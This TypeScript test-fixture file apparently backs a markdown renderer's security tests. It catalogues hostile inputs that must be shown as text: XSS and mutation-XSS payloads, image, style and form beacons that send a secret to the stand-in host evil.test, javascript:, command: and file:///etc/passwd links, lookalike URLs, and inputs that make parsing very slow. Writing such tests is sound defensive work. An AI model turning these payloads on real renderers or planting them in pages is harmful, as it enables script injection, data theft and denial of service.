const evil = 'https://evil.test/?d=SECRET';
const run = 'window.pwned=1';

/**
 * Markdown that tries to load something, to run something, or to look like something else, by the rows of the adversarial
 * catalog. Each must be shown as text.
 */
export const hostilePayloads: Readonly<Record<string, readonly string[]>> = {
	'W01 loads by images and media': [
		`![x](${evil})`,
		`![x][ref]\n\n[ref]: ${evil} "t"`,
		`[![x](${evil})](${evil})`,
		`<img src="${evil}">`,
		`<img srcset="${evil} 2x">`,
		`<picture><source srcset="${evil}"><img></picture>`,
		`<svg><image href="${evil}"/></svg>`,
		`<svg><use href="${evil}#x"/></svg>`,
		`<svg><feImage href="${evil}"/></svg>`,
		`<video poster="${evil}"><source src="${evil}"><track src="${evil}"></video>`,
		`<audio src="${evil}" autoplay></audio>`,
		`<input type="image" src="${evil}">`,
		`<table background="${evil}"><tr><td background="${evil}">x</td></tr></table>`,
		`<body background="${evil}">`,
	],
	'W02 loads by styles': [
		`<style>@import url("${evil}");</style>`,
		`<style>body{background:url("${evil}")}</style>`,
		`<div style="background:url('${evil}')">x</div>`,
		`<link rel="stylesheet" href="${evil}">`,
		...['prefetch', 'preload', 'modulepreload', 'icon', 'manifest'].map((rel) => `<link rel="${rel}" href="${evil}">`),
	],
	'W03 looks up names': [`<link rel="dns-prefetch" href="//evil.test">`, `<link rel="preconnect" href="${evil}">`],
	'W04 leaves the page': [`<meta http-equiv="refresh" content="0;url=${evil}">`, `<base href="${evil}">`],
	'W05 sends forms': [
		`<form action="${evil}"><button>Go</button></form>`,
		`<button formaction="${evil}">Go</button>`,
		`<isindex action="${evil}">`,
	],
	'W06 embeds pages': [
		`<iframe src="${evil}"></iframe>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
		`<object data="${evil}"></object>`,
		`<embed src="${evil}">`,
		`<portal src="${evil}"></portal>`,
		`<fencedframe src="${evil}"></fencedframe>`,
	],
	'W07 runs script': [
		`<script>${run}</script>`,
		`<script src="${evil}"></script>`,
		`<img src=x onerror="${run}">`,
		`<body onload="${run}">`,
		`<details open ontoggle="${run}">x</details>`,
		`<svg><animate onbegin="${run}" attributeName=x></svg>`,
		`<svg onload="${run}">`,
		`<input autofocus onfocus="${run}">`,
		`<script type="speculationrules">{"prefetch":[{"urls":["${evil}"]}]}</script>`,
		`<a href="x" onclick="${run}">x</a>`,
		`&lt;script&gt;${run}&lt;/script&gt;`,
	],
	'W11 downloads at a click': [
		`<a download href="data:text/html,x">x</a>`,
		`[x](data:application/octet-stream;base64,AAAA)`,
	],
	'W13 breaks out of where it stands': [
		'`"><img src=x onerror=window.pwned=1>`',
		'```"><img src=x onerror=window.pwned=1>\n"><script>window.pwned=1</script>\n```',
		`"></textarea></title></style><img src="${evil}">`,
		`</script><script>${run}</script>`,
		`\u0000<img src="${evil}">`,
		`{0}{1}<img src="${evil}">`,
	],
	'W12 clobbers names': [
		`<div data-vscode-context='{"preventDefaultContextMenuItems":true,"webviewSection":"msg"}'>x</div>`,
		`<form id="root"><input name="vscode"></form>`,
		`<a id="fakeHost" name="fakeHost" href="x">x</a>`,
		`# Heading {#root}`,
		`[x](https://example.com){#root onclick="${run}"}`,
	],
	'W16 mutates when parsed again': [
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
		`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
		`<template><script>${run}</script></template>`,
		`<xmp><p title="</xmp><svg/onload=${run}>">`,
		`<svg><foreignobject><math><mi><mglyph><svg><mtext><style><path id="</style><img onerror='${run}' src>">`,
		`<![CDATA[<img src=x onerror=${run}>]]>`,
		`<!--><img src=x onerror=${run}>-->`,
		`<a href="javascript&colon;${run}">x</a>`,
	],
};

/** Targets that must not become links: W08, and those of W09 and W11 that are not addresses. */
export const hostileLinks: readonly string[] = [
	`javascript:${run}`,
	`JaVaScRiPt:${run}`,
	`java\tscript:${run}`,
	`java&Tab;script:${run}`,
	`java&NewLine;script:${run}`,
	`&#106;avascript:${run}`,
	`&#x6A;avascript&#58;${run}`,
	` javascript:${run}`,
	'data:text/html,<script>1</script>',
	'vbscript:msgbox(1)',
	'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D',
	'vscode://file/etc/passwd',
	'vscode-insiders://x',
	'file:///etc/passwd',
	'blob:https://example.com/1',
	'https://trusted.example%40evil.test',
	'//evil.test/x',
	'/etc/passwd',
	'src/app.ts',
	'https://',
	'mailto://evil.test',
];

/** Targets that lead to `evil.test` or carry data away. They open only after the full target was shown (W09, W10). */
export const doubtfulLinks: readonly string[] = [
	'https://trusted.example@evil.test/x',
	'https://user:password@evil.test',
	'https:\\\\evil.test',
	'https:/\\evil.test',
	'https://evil.tеst',
	`https://evil.test/?${'q'.repeat(4096)}`,
	`https://evil.test/?q#${'f'.repeat(300)}`,
	`https://evil.test/${'p'.repeat(4096)}`,
];

const deep = 10_000;

/** Input that is expensive to parse, to draw or to lay out. */
export const costlyMarkdown: Readonly<Record<string, string>> = {
	'an unclosed fence': `\`\`\`js\n${'let x = 1;\n'.repeat(deep)}`,
	'nested quotations': `${'> '.repeat(deep)}x`,
	'nested quotations without spaces': `${'>'.repeat(deep)}x`,
	'nested lists': `${'- '.repeat(deep)}x`,
	'nested numbered lists': `${'1. '.repeat(deep)}x`,
	'lists nested line by line': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
	'open brackets': '['.repeat(deep),
	'brackets behind backslashes': `${'\\['.repeat(200_000)}*`,
	'comments that nothing closes': '?>?><!--'.repeat(50_000),
	'open images': '!['.repeat(deep),
	'open links': '[x]('.repeat(deep),
	'unbalanced emphasis': '*a **a '.repeat(deep),
	'unbalanced underscores': '_a __a '.repeat(deep),
	'nested emphasis': `${'*a **b '.repeat(3000)}c${'** d*'.repeat(3000)}`,
	'a line of a million letters': 'x'.repeat(1_000_000),
	'a line of a million words': 'word '.repeat(200_000),
	'a word before an at sign': `${'a'.repeat(50_000)}@`,
	'a table of many rows': `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(50_000)}`,
	'a table of as many rows as are read': `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(5900)}`,
	'a table of many columns': `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|1'.repeat(5000)}|`,
	'a list of many items': '- x\n'.repeat(14_900),
	'many paragraphs': 'a *b* `c`\n\n'.repeat(5000),
	'many headings': '# a\n'.repeat(14_900),
	'many hidden characters': '\u202e\u200b'.repeat(20_000),
};

/** Markdown for which marked takes quadratic time: 60 KB of it blocked a view for seconds. */
export const quadraticMarkdown: Readonly<Record<string, string>> = {
	'a nested list and a table in it': sixtyKilobytes('- ', '-|-\n'),
	'a nested list and tables in the next ones': sixtyKilobytes('- ', '+ -|-\n@b'),
	'tables whose second lines have too few columns': sixtyKilobytes('-|-\n:-:\r'),
	'emphasis that nothing closes, and tasks': sixtyKilobytes('///*a\n', '- [ ] '),
	'tables of mail addresses': sixtyKilobytes('\n-|-\na@b.c'),
	'tables, and targets of links without a target': sixtyKilobytes('\n-|-\n)', '[a]:'),
	'strikethrough that nothing closes': sixtyKilobytes('~~a '),
	'links that nothing closes': sixtyKilobytes('[a](b '),
	'backticks behind backslashes': sixtyKilobytes(':\\``- '),
	'lines that go on with the paragraph of a list item': sixtyKilobytes('* * *[^', '-|\n'),
	'punctuation at the end of an address': sixtyKilobytes('http://a.b/ ', '.'),
	'punctuation at the end of an address before a tag': `http://a.b/${'.'.repeat(60_000)}<x`,
	'character references at the end of an address': `http://a.b/${'&amp;'.repeat(12_000)}`,
	'quotations that go on without their sign': sixtyKilobytes('a@\\\n>*\n'),
	'quotations within quotations': sixtyKilobytes('> > > > > > > > a\n> b\n'),
};

/** Each of `pieces` repeated; about 60 KB in total. */
function sixtyKilobytes(...pieces: readonly string[]): string {
	return pieces.map((piece) => piece.repeat(Math.floor(60_000 / pieces.length / piece.length))).join('');
}
